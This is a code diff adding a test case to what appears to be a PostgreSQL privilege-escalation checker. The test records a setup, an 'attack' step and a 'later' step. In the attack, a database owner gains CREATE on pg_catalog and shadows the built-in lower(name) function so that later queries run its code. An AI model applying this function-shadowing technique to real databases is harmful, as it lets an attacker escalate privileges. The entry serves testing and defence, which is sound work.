@@ -546,6 +546,15 @@ export const OBJECT_PROOFS: readonly Proof[] = [
     ...RISING,
   },
   {
+    path: "catalog-schema",
+    title: "the owner of a database whose pg_catalog is pg_database_owner's",
+    setup: ["ALTER SCHEMA pg_catalog OWNER TO pg_database_owner; REVOKE CREATE ON SCHEMA pg_catalog FROM pg_database_owner; ALTER DATABASE test OWNER TO app"],
+    undo: ["ALTER DATABASE test OWNER TO postgres"],
+    attack: ["GRANT CREATE ON SCHEMA pg_catalog TO app", `CREATE FUNCTION pg_catalog.lower(name) RETURNS int LANGUAGE ${RISES}`],
+    later: ["SELECT lower('Name'::name)"],
+    ...RISING,
+  },
+  {
     path: "event-trigger-code",
     title: "the function of an event trigger, replaced by its owner",
     setup: [
